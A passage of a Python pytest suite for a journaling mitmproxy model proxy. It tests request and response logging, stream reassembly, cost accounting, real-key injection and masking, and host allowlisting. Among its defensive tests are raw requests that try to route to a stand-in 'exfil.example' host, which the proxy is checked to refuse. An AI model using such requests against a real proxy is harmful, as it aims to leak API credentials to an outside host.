"""The journaling model proxy (SPEC section 7).

Integration tests run the real, pinned mitmdump (`proxy.host.HostProxy`, from its dedicated venv,
created here on first use) in front of a real HTTP upstream (`tests.proxy_upstream`, uvicorn in a
thread), and talk to it with httpx and raw sockets. Two proxies serve the module: one in reverse
mode (the sandbox's view: base URL -> proxy -> upstream) and one in regular mode (HTTP(S)_PROXY).
The pure pieces - SSE reassembly, usage, prices, the journal file and the slot control file - are
unit-tested without mitmproxy, which carc's own environment does not have.
"""

from __future__ import annotations

import gzip
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.host import HostProxy, mitmdump_command, mitmdump_path
from proxy.journal import (JournalEntry, JournalWriter, read_journal, read_slot,
                           write_slot)
from proxy.prices import PriceTable
from proxy.sse import api_of, parse_events, reassemble, usage_of
from tests import proxy_upstream
from tests.key_echo import FRAMINGS, key_runs, seen_by_client
from tests.proxy_upstream import (ANTHROPIC_FINAL_OUTPUT, ANTHROPIC_START_USAGE, CHAT_USAGE,
                                  RESPONSES_USAGE, STREAM_USAGE, UpstreamServer, free_port)

REAL_KEY_ENV = "CARC_TEST_REAL_MODEL_KEY"
REAL_KEY = "sk-real-" + "7" * 24
PLACEHOLDER = "sk-placeholder"
EXPECTED_FAILURE = "carc journal addon failed in requestheaders: Traceback (most recent call last):"


# --- fixtures ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def upstream():
    with UpstreamServer() as server:
        yield server


@pytest.fixture(scope="module")
def reverse(upstream, tmp_path_factory):
    """Reverse mode with key injection: what a sandboxed learner talks to."""
    os.environ[REAL_KEY_ENV] = REAL_KEY  # the proxy's environment; the client never has it
    try:
        with HostProxy(tmp_path_factory.mktemp("reverse"), cell="cell-r", upstream=upstream.url,
                       key_env=REAL_KEY_ENV, confdir=tmp_path_factory.mktemp("conf")) as proxy:
            yield proxy
        assert_no_addon_failure(proxy)
    finally:
        os.environ.pop(REAL_KEY_ENV, None)


@pytest.fixture(scope="module")
def dead_port() -> int:
    return free_port()  # nothing listens there


@pytest.fixture(scope="module")
def price_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("prices") / "prices.json"
    path.write_text(json.dumps({"models": {"house-model": {"input": 1.0, "output": 2.0}}}))
    return path


@pytest.fixture(scope="module")
def regular(upstream, dead_port, price_file, tmp_path_factory):
    """Regular (forward) mode: the upstream and a dead port are allowlisted, nothing else."""
    with HostProxy(tmp_path_factory.mktemp("regular"), cell="cell-f", upstream=upstream.url,
                   allow=[f"127.0.0.1:{dead_port}"], mode="regular", prices=price_file,
                   confdir=tmp_path_factory.mktemp("conf")) as proxy:
        yield proxy
    assert_no_addon_failure(proxy)


def assert_no_addon_failure(proxy: HostProxy) -> None:
    log = proxy.log_path.read_text()
    failures = [line.split("] ", 1)[-1] for line in log.splitlines()
                if "carc journal addon failed" in line]
    assert failures == [] or failures == [EXPECTED_FAILURE], log


def through(proxy: HostProxy) -> httpx.Client:
    return httpx.Client(proxy=proxy.proxy_url, trust_env=False, timeout=10)


def marker() -> str:
    return f"m-{uuid.uuid4().hex[:12]}"


def chat_body(mark: str, **extra) -> dict:
    return {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": mark}], **extra}


def entry_for(proxy: HostProxy, mark: str, count: int = 1, timeout: float = 5.0) -> JournalEntry:
    """The journal line(s) of the request carrying `mark` (waits: streams end after the reply)."""
    deadline = time.monotonic() + timeout
    while True:
        found = [e for e in proxy.entries() if mark in json.dumps(e.request)]
        if len(found) >= count or time.monotonic() > deadline:
            assert len(found) == count, f"{len(found)} journal lines carry {mark}, not {count}"
            return found[-1]
        time.sleep(0.02)


def raw(proxy: HostProxy, relative: str | None) -> bytes:
    assert relative is not None
    return gzip.decompress((proxy.journal_dir / relative).read_bytes())


# --- reverse mode: calls, streams, keys ---------------------------------------------------------

def test_proxy_is_up_in_well_under_ten_seconds(reverse, regular):
    assert reverse.startup_s < 10 and regular.startup_s < 10
    assert reverse.base_url.endswith("/v1") and reverse.base_url.startswith("http://127.0.0.1:")
    assert reverse.ca_cert_path.exists()


def test_chat_completion_is_journaled_with_request_response_and_usage(reverse, upstream):
    mark = marker()
    reverse.set_slot(0, "before")
    reply = httpx.post(f"{reverse.base_url}/chat/completions", json=chat_body(mark), timeout=10)
    assert reply.status_code == 200 and reply.json()["choices"][0]["message"]["content"] == "Hello"
    entry = entry_for(reverse, mark)
    assert (entry.cell, entry.mode, entry.method, entry.api) == ("cell-r", "reverse", "POST",
                                                                 "openai-chat")
    assert entry.url == f"{upstream.url}/chat/completions"
    assert entry.model == "gpt-4o-mini" and entry.stream is False and entry.status == 200
    assert entry.request == chat_body(mark) and entry.response == reply.json()
    assert (entry.prompt_tokens, entry.completion_tokens, entry.total_tokens) == (1000, 500, 1500)
    assert entry.refused is False and entry.error is None
    assert entry.t_start <= entry.t_first_byte <= entry.t_end
    assert entry.latency_s == pytest.approx(entry.t_end - entry.t_start)


def test_streamed_chat_completion_is_reassembled_with_usage(reverse):
    mark = marker()
    body = chat_body(mark, stream=True, stream_options={"include_usage": True})
    with httpx.stream("POST", f"{reverse.base_url}/chat/completions", json=body,
                      timeout=10) as reply:
        received = b"".join(reply.iter_bytes())
    assert received == b"".join(proxy_upstream.chat_stream(True))  # passed on unaltered
    entry = entry_for(reverse, mark)
    assert entry.stream is True and entry.error is None
    choice = entry.response["choices"][0]
    assert choice["message"]["content"] == "Hello"
    assert choice["message"]["tool_calls"] == [{"id": "call_1", "type": "function", "function": {
        "name": "submit", "arguments": '{"grid": [[1, 2]]}'}}]
    assert choice["finish_reason"] == "tool_calls"
    assert entry.response["usage"] == STREAM_USAGE
    assert (entry.prompt_tokens, entry.completion_tokens) == (21, 9)
    assert entry.t_start <= entry.t_first_byte <= entry.t_end


def test_streamed_responses_api_call_is_the_completed_response(reverse):
    mark = marker()
    body = {"model": "gpt-4.1", "input": mark, "stream": True}
    with httpx.stream("POST", f"{reverse.base_url}/responses", json=body, timeout=10) as reply:
        reply.read()
    entry = entry_for(reverse, mark)
    assert entry.api == "openai-responses" and entry.error is None
    assert entry.response["status"] == "completed"
    assert entry.response["output"][0]["content"][0]["text"] == "Hello there"
    assert (entry.prompt_tokens, entry.completion_tokens) == (30, 7)
    assert entry.cost_usd == pytest.approx((30 * 2.0 + 7 * 8.0) / 1e6)


def test_streamed_anthropic_message_is_reassembled_with_tool_input_and_usage(reverse):
    mark = marker()
    body = {"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
            "messages": [{"role": "user", "content": mark}]}
    with httpx.stream("POST", f"{reverse.base_url}/messages", json=body, timeout=10,
                      headers={"x-api-key": PLACEHOLDER}) as reply:
        reply.read()
    entry = entry_for(reverse, mark)
    assert entry.api == "anthropic-messages" and entry.error is None
    assert entry.response["content"] == [
        {"type": "text", "text": "Let me submit."},
        {"type": "tool_use", "id": "toolu_1", "name": "submit", "input": {"grid": [[3]]}}]
    assert entry.response["stop_reason"] == "tool_use"
    prompt = sum(ANTHROPIC_START_USAGE[k] for k in ("input_tokens", "cache_creation_input_tokens",
                                                    "cache_read_input_tokens"))
    assert (entry.prompt_tokens, entry.completion_tokens) == (prompt, ANTHROPIC_FINAL_OUTPUT)


def test_placeholder_key_is_replaced_by_real_key_upstream(reverse, upstream):
    mark_openai, mark_anthropic = marker(), marker()
    httpx.post(f"{reverse.base_url}/chat/completions", json=chat_body(mark_openai), timeout=10,
               headers={"authorization": f"Bearer {PLACEHOLDER}"})
    with httpx.stream("POST", f"{reverse.base_url}/messages", timeout=10,
                      json={"model": "claude-haiku-4-5", "messages": [{"content": mark_anthropic}]},
                      headers={"x-api-key": PLACEHOLDER}) as reply:
        reply.read()
    assert upstream.seen_with(mark_openai).headers["authorization"] == f"Bearer {REAL_KEY}"
    assert upstream.seen_with(mark_anthropic).headers["x-api-key"] == REAL_KEY
    # the journal keeps what the client sent, and never the real key
    entry = entry_for(reverse, mark_openai)
    assert f"Bearer {PLACEHOLDER}".encode() in raw(reverse, entry.raw_request)
    entry_for(reverse, mark_anthropic)
    assert REAL_KEY not in reverse.journal_path.read_text()
    for path in (reverse.journal_dir / "raw").iterdir():
        assert REAL_KEY.encode() not in gzip.decompress(path.read_bytes())


@pytest.mark.parametrize("framing", FRAMINGS)
def test_a_key_the_upstream_echoes_never_reaches_the_client_nor_the_journal(reverse, framing):
    """In every framing a client could decode (a stream split mid-key, split across content or
    tool-call argument deltas, JSON-escaped, gzip, a gzip stream, a header, a chunked body): the
    client gets the answer with the key masked, and no journal file holds the key or any
    12-character run of it."""
    mark = marker()
    with httpx.Client(timeout=10) as client:
        with client.stream("POST", f"{reverse.base_url}/chat/completions",
                           json=chat_body(mark, model=f"echo-{framing}"),
                           headers={"authorization": f"Bearer {PLACEHOLDER}",
                                    "accept-encoding": "gzip"}) as reply:
            wire = b"".join(reply.iter_raw())  # as sent, before any decoding by the client
            headers = str(reply.headers.multi_items())
            status = reply.status_code
    seen = seen_by_client(wire, headers, reply.headers.get("content-encoding", ""))
    assert key_runs(REAL_KEY, seen) == []
    assert status == 200 and any("<carc:redacted" in text for text in seen), seen[:2]
    entry = entry_for(reverse, mark)
    journal_files = [reverse.journal_path.read_text()] + [
        gzip.decompress(path.read_bytes()) for path in (reverse.journal_dir / "raw").iterdir()]
    assert key_runs(REAL_KEY, journal_files) == []
    assert entry.error is None and entry.status == 200
    if framing in ("sse", "gzip-sse", "split-content", "escaped", "plain", "chunked", "gzip"):
        assert "<carc:redacted" in entry.response["choices"][0]["message"]["content"]


def test_upstream_500_is_journaled_with_status_and_error(reverse):
    mark = marker()
    reply = httpx.post(f"{reverse.base_url}/chat/completions",
                       json={"model": "boom", "messages": [{"content": mark}]}, timeout=10)
    assert reply.status_code == 500
    entry = entry_for(reverse, mark)
    assert entry.status == 500 and entry.refused is False
    assert entry.response == {"error": {"message": "upstream exploded", "type": "server"}}
    assert "HTTP 500" in entry.error and "upstream exploded" in entry.error


def test_a_stream_the_upstream_breaks_reaches_the_client_broken_and_is_journaled(reverse):
    """A truncated SSE stream (the provider's connection ends mid-body) is passed on as broken -
    the client's read fails as it would without the proxy, never a stream that looks complete -
    and the journal line keeps what arrived and says the call did not end."""
    mark = marker()
    got = b""
    with pytest.raises(httpx.HTTPError):
        with httpx.stream("POST", f"{reverse.base_url}/chat/completions", timeout=10,
                          json=chat_body(mark, model="cut-sse", stream=True)) as response:
            for chunk in response.iter_bytes():
                got += chunk
    assert b"Hel" in got and b"[DONE]" not in got
    entry = entry_for(reverse, mark)
    assert entry.stream and entry.error and entry.status == 200
    assert entry.response["choices"][0]["message"]["content"] == "Hello"


def test_client_disconnect_mid_stream_is_journaled(reverse, upstream):
    mark = marker()
    body = {"model": "hang", "stream": True, "messages": [{"content": mark}]}
    seen = b""
    with httpx.stream("POST", f"{reverse.base_url}/chat/completions", json=body,
                      timeout=10) as reply:
        for chunk in reply.iter_bytes():  # the chunks arrive while the upstream still streams
            seen += chunk
            if b'"lo"' in seen:
                break
    entry = entry_for(reverse, mark)
    assert entry.status == 200 and entry.stream is True
    assert entry.response["choices"][0]["message"]["content"] == "Hello"  # the partial answer
    assert "disconnect" in entry.error.lower() and "without [DONE]" in entry.error
    assert b"Hel" in raw(reverse, entry.raw_response)
    deadline = time.monotonic() + 5  # and the proxy let go of the upstream too
    while not any(mark in m for m in upstream.disconnects) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert any(mark in m for m in upstream.disconnects)


def test_an_absolute_form_target_on_the_reverse_port_is_refused_and_journaled_as_asked(reverse, upstream):
    """`POST http://exfil.example/...` to the reverse port would have gone to the upstream with the
    real key, journaled under the upstream's URL; it is refused, journaled under what was asked."""
    mark = marker()
    body = json.dumps(chat_body(mark)).encode()
    seen = len(upstream.seen)
    with socket.create_connection(("127.0.0.1", reverse.port), timeout=10) as s:
        s.sendall(b"POST http://exfil.example/v1/chat/completions HTTP/1.1\r\nHost: exfil.example\r\n"
                  b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode()
                  + b"\r\nConnection: close\r\n\r\n" + body)
        answer = b"".join(iter(lambda: s.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 400") and b"absolute-form" in answer
    entry = entry_for(reverse, mark)
    assert (entry.refused, entry.status, entry.host) == (True, 400, "exfil.example")
    assert entry.url.startswith("http://exfil.example/")
    assert len(upstream.seen) == seen


@pytest.mark.parametrize("data,said", [
    (b"GET http://user:pw@127.0.0.1/v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b"Bad HTTP request line"),
    (b"GET /v1/models HTTP/1.1\r\nHost x\r\n\r\n", b"Invalid header line"),
    (b"\x16\x03\x01 not a handshake\r\n\r\n", b"TLS handshake failed"),
])
def test_bytes_mitmproxy_rejects_before_any_request_get_a_journal_line(reverse, upstream, data, said):
    """A request head mitmproxy cannot parse never becomes a flow, so no hook saw it: the
    connection's journal line comes from what mitmproxy said about it. A connection that sends
    nothing (a port probe) leaves no line."""
    before, seen = len(read_journal(reverse.journal_path)), len(upstream.seen)
    with socket.create_connection(("127.0.0.1", reverse.port), timeout=10):
        pass  # connected and closed: nothing to record
    with socket.create_connection(("127.0.0.1", reverse.port), timeout=3) as s:
        s.sendall(data)
        try:
            b"".join(iter(lambda: s.recv(65536), b""))
        except socket.timeout:
            pass  # a TLS-looking hello waits for more; closing is what a client would do
    deadline = time.monotonic() + 10
    while len(read_journal(reverse.journal_path)) == before and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.3)
    [entry] = read_journal(reverse.journal_path)[before:]
    assert entry.refused and entry.error.startswith("rejected by mitmproxy before it became a request")
    assert said.decode() in entry.error and entry.cell == "cell-r"
    assert len(upstream.seen) == seen


def test_slot_and_phase_come_from_the_control_file(reverse):
    marks = {}
    for slot, phase in [(7, "before"), (7, "after"), (None, "between"), (8, "before")]:
        reverse.set_slot(slot, phase)
        marks[(slot, phase)] = mark = marker()
        httpx.post(f"{reverse.base_url}/chat/completions", json=chat_body(mark), timeout=10)
    for (slot, phase), mark in marks.items():
        entry = entry_for(reverse, mark)
        assert (entry.slot, entry.phase) == (slot, phase)


def test_raw_bytes_are_kept_compressed(reverse):
    mark = marker()
    body = json.dumps(chat_body(mark, stream=True), indent=1).encode()
    with httpx.stream("POST", f"{reverse.base_url}/chat/completions", content=body,
                      headers={"content-type": "application/json"}, timeout=10) as reply:
        reply.read()
    entry = entry_for(reverse, mark)
    assert entry.raw_request == f"raw/{entry.id}.req.gz"
    request = raw(reverse, entry.raw_request)
    assert request.startswith(b"POST /v1/chat/completions HTTP/1.1\r\n")
    assert b"\r\naccept-encoding: gzip, deflate" in request.lower()  # as the client sent it
    assert request.endswith(body)  # byte for byte
    response = raw(reverse, entry.raw_response)
    assert response.startswith(b"HTTP/1.1 200")
    assert response.endswith(b"".join(proxy_upstream.chat_stream(False)))


def test_cost_comes_from_the_price_table(reverse):
    mark = marker()
    httpx.post(f"{reverse.base_url}/chat/completions", json=chat_body(mark), timeout=10)
    entry = entry_for(reverse, mark)  # gpt-4o-mini: $0.15 in, $0.60 out per million
    assert entry.cost_usd == pytest.approx((CHAT_USAGE["prompt_tokens"] * 0.15
                                            + CHAT_USAGE["completion_tokens"] * 0.60) / 1e6)


def test_concurrent_calls_get_one_line_each(reverse):
    mark = marker()
    threads = [threading.Thread(target=httpx.post, args=(f"{reverse.base_url}/chat/completions",),
                                kwargs={"json": chat_body(mark, stream=i % 2 == 0), "timeout": 10})
               for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    entry_for(reverse, mark, count=8)
    ids = [e.id for e in reverse.entries()]
    assert len(ids) == len(set(ids))


def test_an_addon_failure_is_journaled_and_nothing_is_forwarded(reverse, upstream):
    mark = marker()
    reverse.control.write_text("not json")  # only a carc bug could do this; it makes _slot raise
    try:
        reply = httpx.post(f"{reverse.base_url}/chat/completions", json=chat_body(mark),
                           timeout=10)
    finally:
        reverse.set_slot(None, "between")
    assert reply.status_code == 502 and reply.headers["x-carc-proxy"] == "error"
    assert not any(mark in json.dumps(s.body) for s in upstream.seen)
    [entry] = [e for e in reverse.entries() if e.error and "addon failed" in e.error]
    assert "not a slot control file" in entry.error and entry.refused is True
    assert raw(reverse, entry.raw_request).startswith(b"POST /v1/chat/completions")


# --- regular mode: allowlist, refusals, upstream down ------------------------------------------

def test_allowlisted_host_is_forwarded_in_regular_mode(regular, upstream):
    mark = marker()
    with through(regular) as client:
        reply = client.post(f"{upstream.url}/chat/completions", json=chat_body(mark))
    assert reply.status_code == 200
    entry = entry_for(regular, mark)
    assert (entry.mode, entry.cell, entry.host, entry.status) == ("regular", "cell-f",
                                                                  "127.0.0.1", 200)


def test_non_allowlisted_host_gets_403_and_a_journal_line(regular):
    mark = marker()
    with through(regular) as client:  # .invalid never resolves: a 403 means no lookup was tried
        reply = client.post("http://models.invalid/v1/chat/completions", json=chat_body(mark))
    assert reply.status_code == 403
    assert "models.invalid:80 is not on the proxy's allowlist" in reply.text
    entry = entry_for(regular, mark)
    assert entry.refused is True and entry.status == 403 and entry.host == "models.invalid"
    assert "allowlist" in entry.error and entry.response is None
    assert entry.request == chat_body(mark)  # what was attempted is kept for the audit
    assert raw(regular, entry.raw_request).startswith(b"POST /v1/chat/completions")


def test_connect_to_non_allowlisted_host_is_refused(regular):
    before = len(regular.entries())
    with socket.create_connection(("127.0.0.1", regular.port), timeout=5) as s:
        s.sendall(b"CONNECT exfil.example.com:443 HTTP/1.1\r\nHost: exfil.example.com:443\r\n\r\n")
        answer = s.recv(4096)
    assert answer.startswith(b"HTTP/1.1 403")
    entries = regular.entries()[before:]
    assert [(e.method, e.host, e.refused, e.status) for e in entries] == [
        ("CONNECT", "exfil.example.com", True, 403)]


def test_upstream_down_is_journaled(regular, dead_port):
    mark = marker()
    with through(regular) as client:
        reply = client.post(f"http://127.0.0.1:{dead_port}/v1/chat/completions",
                            json=chat_body(mark))
    assert reply.status_code == 502
    entry = entry_for(regular, mark)
    assert entry.status is None and entry.refused is False and entry.response is None
    assert "connect call failed" in entry.error.lower()


def test_price_table_option_overrides_the_default(regular, upstream):
    mark = marker()
    with through(regular) as client:
        client.post(f"{upstream.url}/chat/completions",
                    json={"model": "house-model", "messages": [{"content": mark}]})
    entry = entry_for(regular, mark)
    assert entry.cost_usd == pytest.approx((1000 * 1.0 + 500 * 2.0) / 1e6)
    gpt_mark = marker()
    with through(regular) as client:
        client.post(f"{upstream.url}/chat/completions", json=chat_body(gpt_mark))
    assert entry_for(regular, gpt_mark).cost_usd is None  # not in the override table


# --- lifecycle -----------------------------------------------------------------------------------

def test_a_call_in_flight_when_the_proxy_stops_is_journaled(upstream, tmp_path):
    mark = marker()
    proxy = HostProxy(tmp_path / "journal", cell="c", upstream=upstream.url,
                      confdir=tmp_path / "conf")
    with proxy:
        first_chunk = threading.Event()

        def client():
            body = {"model": "hang", "stream": True, "messages": [{"content": mark}]}
            try:
                with httpx.stream("POST", f"{proxy.base_url}/chat/completions", json=body,
                                  timeout=10) as reply:
                    for _ in reply.iter_bytes():
                        first_chunk.set()
            except httpx.HTTPError:
                pass

        thread = threading.Thread(target=client, daemon=True)
        thread.start()
        assert first_chunk.wait(5)
    thread.join(5)
    [entry] = read_journal(tmp_path / "journal")
    assert mark in json.dumps(entry.request)
    assert entry.response["choices"][0]["message"]["content"].startswith("Hel")
    assert entry.error


def test_addon_refuses_to_start_when_the_named_key_variable_is_unset(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "CARC_TEST_UNSET_KEY"}
    command = mitmdump_command(mitmdump_path(), journal_dir=tmp_path, cell="c",
                               control=tmp_path / "slot.json", listen_host="127.0.0.1",
                               listen_port=free_port(), confdir=tmp_path / "conf",
                               upstream="http://127.0.0.1:9/v1", key_env="CARC_TEST_UNSET_KEY")
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode != 0
    assert "CARC_TEST_UNSET_KEY is not set" in done.stdout + done.stderr


def test_host_proxy_with_an_unset_key_variable_passes_the_clients_key(upstream, tmp_path):
    os.environ.pop("CARC_TEST_UNSET_KEY", None)
    mark = marker()
    with HostProxy(tmp_path / "journal", cell="c", upstream=upstream.url,
                   key_env="CARC_TEST_UNSET_KEY", confdir=tmp_path / "conf") as proxy:
        httpx.post(f"{proxy.base_url}/chat/completions", json=chat_body(mark), timeout=10,
                   headers={"authorization": "Bearer sk-users-own"})
        entry_for(proxy, mark)
    assert upstream.seen_with(mark).headers["authorization"] == "Bearer sk-users-own"


def launched_by(proxy: HostProxy) -> str:
    return Path(f"/proc/{proxy._process.pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()


def test_a_proxy_started_from_the_warm_spare_journals_as_a_cold_one(upstream, tmp_path, monkeypatch):
    """The next proxy of a thread starts from the spare the last one left (mitmproxy already
    imported); it journals exactly as a cold mitmdump does, and a spare made under another
    environment is not used (the proxy starts cold, as it would have)."""
    monkeypatch.delenv("CARC_PROXY_SPARE", raising=False)
    entries = {}
    for name in ("first", "warm"):
        with HostProxy(tmp_path / name, cell=name, upstream=upstream.url) as proxy:
            mark = marker()
            proxy.set_slot(3, "before")
            assert httpx.post(f"{proxy.base_url}/chat/completions", json=chat_body(mark), timeout=10).status_code == 200
            entries[name] = entry_for(proxy, mark)
            started_by = launched_by(proxy)
        assert proxy.log_path.exists()
        assert_no_addon_failure(proxy)
    assert "launch.py" in started_by  # the second proxy was the first one's spare
    for name, entry in entries.items():
        assert (entry.cell, entry.slot, entry.phase, entry.status, entry.api) == (name, 3, "before", 200, "openai-chat")
        assert entry.raw_request and entry.raw_response
    monkeypatch.setenv("CARC_TEST_CHANGED_ENVIRONMENT", "1")
    with HostProxy(tmp_path / "changed", cell="changed", upstream=upstream.url) as proxy:
        assert "launch.py" not in launched_by(proxy) and "mitmdump" in launched_by(proxy)


def test_a_proxy_keeping_requests_in_raw_journals_them_there_and_reads_them_back(upstream, tmp_path):
    """carc_requests=raw (the collective regime's row proxies): the line carries no request body,
    the raw file does, and `request_body` reads it back as the inline journal would have it,
    a gzipped upload too; the other fields are as an inline proxy writes them."""
    with HostProxy(tmp_path / "raw", cell="raw", upstream=upstream.url, requests="raw") as proxy:
        proxy.set_slot(2, "before")
        marks = [marker(), marker()]
        assert httpx.post(f"{proxy.base_url}/chat/completions", json=chat_body(marks[0]),
                          timeout=10).status_code == 200
        zipped = gzip.compress(json.dumps(chat_body(marks[1])).encode())
        httpx.post(f"{proxy.base_url}/chat/completions", content=zipped, timeout=10, headers={
            "content-type": "application/json", "content-encoding": "gzip"})  # the test upstream cannot read it
        httpx.get(f"{proxy.base_url}/models", timeout=10)  # no body: nothing to keep anywhere
        deadline = time.monotonic() + 5
        while len(proxy.entries()) < 3 and time.monotonic() < deadline:
            time.sleep(0.02)
        entries = read_journal(proxy.journal_dir)
        assert_no_addon_failure(proxy)
    probe = entries.pop()
    assert (probe.method, probe.request, probe.request_kept, probe.request_body()) == ("GET", None, "inline", None)
    assert [e.request for e in entries] == [None, None]
    assert [e.request_kept for e in entries] == ["raw", "raw"]
    assert [e.request_body() for e in entries] == [chat_body(m) for m in marks]
    assert all(m not in (proxy.journal_dir / "journal.jsonl").read_text() for m in marks)
    assert [(e.slot, e.phase, e.model) for e in entries] == [(2, "before", "gpt-4o-mini")] * 2
    assert (entries[0].status, entries[0].prompt_tokens) == (200, 1000)


def test_an_inline_entry_is_its_own_request_body():
    entry = sample_entry()
    assert entry.request_kept == "inline" and entry.request_body() == entry.request
    assert "directory" not in json.loads(entry.to_json())

def test_mitmdump_command_carries_the_addon_options(tmp_path):
    command = mitmdump_command("mitmdump", journal_dir=tmp_path, cell="c1",
                               control=tmp_path / "slot.json", listen_host="0.0.0.0",
                               listen_port=8080, confdir=tmp_path / "conf",
                               upstream="https://api.openai.com/v1", allow=["a.b", "c.d:1"],
                               key_env="OPENAI_API_KEY")
    assert command[command.index("--mode") + 1] == "reverse:https://api.openai.com"
    sets = [command[i + 1] for i, arg in enumerate(command) if arg == "--set"]
    assert {"carc_cell=c1", "carc_allow=a.b,c.d:1", "carc_key_env=OPENAI_API_KEY",
            "connection_strategy=lazy"} <= set(sets)


# --- journal and slot control file (pure) -------------------------------------------------------

def sample_entry(**changes) -> JournalEntry:
    fields = dict(id="f1", cell="c", slot=1, phase="before", mode="reverse", method="POST",
                  url="http://u/v1/chat/completions", host="u", api="openai-chat",
                  model="m", stream=False, status=200, refused=False,
                  request={"model": "m", "messages": ["é"]}, response={"ok": True},
                  t_start=1.0, t_first_byte=1.5, t_end=2.0, latency_s=1.0)
    return JournalEntry(**{**fields, **changes})


def test_journal_entry_round_trips_through_one_json_line():
    entry = sample_entry(prompt_tokens=3, cost_usd=0.5, error="x\ny")
    line = entry.to_json()
    assert "\n" not in line
    assert JournalEntry.from_json(line) == entry
    assert JournalEntry.from_json(json.dumps({**json.loads(line), "future": 1})) == entry


def test_read_journal_skips_a_torn_last_line_but_not_a_bad_middle_one(tmp_path):
    writer = JournalWriter(tmp_path)
    writer.write(sample_entry(id="a"))
    writer.write(sample_entry(id="b"))
    writer.close()
    with open(tmp_path / "journal.jsonl", "a") as f:
        f.write(sample_entry(id="c").to_json()[:40])
    assert [e.id for e in read_journal(tmp_path)] == ["a", "b"]
    lines = (tmp_path / "journal.jsonl").read_text().split("\n")
    (tmp_path / "journal.jsonl").write_text("\n".join([lines[0], "{oops", lines[1], ""]))
    with pytest.raises(ValueError, match=r"journal.jsonl:2: not a journal entry"):
        read_journal(tmp_path / "journal.jsonl")


def test_a_line_is_whole_in_the_journal_or_not_there_after_a_full_disk_or_a_killed_writer(tmp_path, monkeypatch):
    """A write the disk refuses half-way is cut back off (the proxy goes on and later lines stay
    readable); a torn last line a killed proxy left is cut when the next one opens the journal.
    Once, the next line landed on the end of the torn one and the journal could not be read."""
    import errno

    writer = JournalWriter(tmp_path)
    writer.write(sample_entry(id="a"))
    real_write = os.write

    def half_then_full(fd, data):
        real_write(fd, bytes(data[:len(data) // 2]))
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(os, "write", half_then_full)
    with pytest.raises(OSError):
        writer.write(sample_entry(id="lost"))
    monkeypatch.setattr(os, "write", real_write)
    writer.write(sample_entry(id="b"))
    writer.close()
    assert [e.id for e in read_journal(tmp_path)] == ["a", "b"]
    with open(tmp_path / "journal.jsonl", "a") as f:  # a proxy killed mid-write
        f.write(sample_entry(id="torn").to_json()[:40])
    writer = JournalWriter(tmp_path)
    writer.write(sample_entry(id="c"))
    writer.close()
    assert [e.id for e in read_journal(tmp_path)] == ["a", "b", "c"]


def test_slot_control_file_is_replaced_atomically_and_validated(tmp_path):
    control = tmp_path / "ctl" / "slot.json"
    assert read_slot(control) == (None, None)
    write_slot(control, 3, "before")
    assert read_slot(control) == (3, "before")
    write_slot(control, None, "between")
    assert read_slot(control) == (None, "between")
    assert [p.name for p in control.parent.iterdir()] == ["slot.json"]  # no tmp left behind
    with pytest.raises(ValueError, match="phase must be one of before, after, between"):
        write_slot(control, 3, "during")
    control.write_text("garbage")
    with pytest.raises(ValueError, match="not a slot control file"):
        read_slot(control)


# --- SSE reassembly, usage, prices (pure) -------------------------------------------------------

def test_api_of_classifies_by_path():
    assert api_of("/v1/chat/completions?x=1") == "openai-chat"
    assert api_of("/openai/deployments/d/chat/completions/") == "openai-chat"
    assert api_of("/v1/responses") == "openai-responses"
    assert api_of("/v1/messages") == "anthropic-messages"
    assert api_of("/v1/messages/count_tokens") == "other"
    assert api_of("/v1/models") == "other"


def test_sse_parser_follows_the_event_stream_rules():
    body = b": comment\r\nevent: a\r\ndata: 1\r\ndata:2\r\n\r\ndata: tail-without-blank-line"
    events = parse_events(body)
    assert [(e.event, e.data) for e in events] == [("a", "1\n2"), ("", "tail-without-blank-line")]


def test_chat_stream_reassembly_concatenates_parallel_tool_calls_by_index():
    chunks = [
        {"id": "x", "model": "m", "choices": [{"index": 0, "delta": {
            "role": "assistant", "tool_calls": [
                {"index": 0, "id": "a", "function": {"name": "f", "arguments": "{\"x\""}},
                {"index": 1, "id": "b", "function": {"name": "g", "arguments": ""}}]}}]},
        {"choices": [{"index": 0, "delta": {"tool_calls": [
            {"index": 1, "function": {"arguments": "{}"}},
            {"index": 0, "function": {"arguments": ": 1}"}}]}}]},
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
    ]
    body = "".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n"
    result, error = reassemble("openai-chat", body)
    assert error is None
    message = result["choices"][0]["message"]
    assert message["content"] is None
    assert [(c["id"], c["function"]["name"], c["function"]["arguments"])
            for c in message["tool_calls"]] == [("a", "f", '{"x": 1}'), ("b", "g", "{}")]
    assert usage_of("openai-chat", result) == (None, None)


def test_responses_stream_without_completed_event_falls_back_to_text_deltas():
    body = "".join(proxy_upstream.typed_sse(e).decode() for e in [
        {"type": "response.created", "response": {"id": "r", "model": "gpt-4.1", "output": []}},
        {"type": "response.output_text.delta", "output_index": 0, "delta": "par"},
        {"type": "response.output_text.delta", "output_index": 0, "delta": "tial"}])
    result, error = reassemble("openai-responses", body)
    assert result["id"] == "r" and result["status"] == "incomplete"
    assert result["output"][0]["content"][0]["text"] == "partial"
    assert "without response.completed" in error


def test_anthropic_stream_cut_inside_tool_input_keeps_the_partial_json():
    body = b"".join(list(proxy_upstream.anthropic_stream())[:8])
    result, error = reassemble("anthropic-messages", body)
    assert result["content"][0]["text"] == "Let me submit."
    assert result["content"][1]["partial_json"] == '{"grid": [[3'
    assert "not complete JSON" in error and "without message_stop" in error


def test_usage_of_reads_all_three_apis():
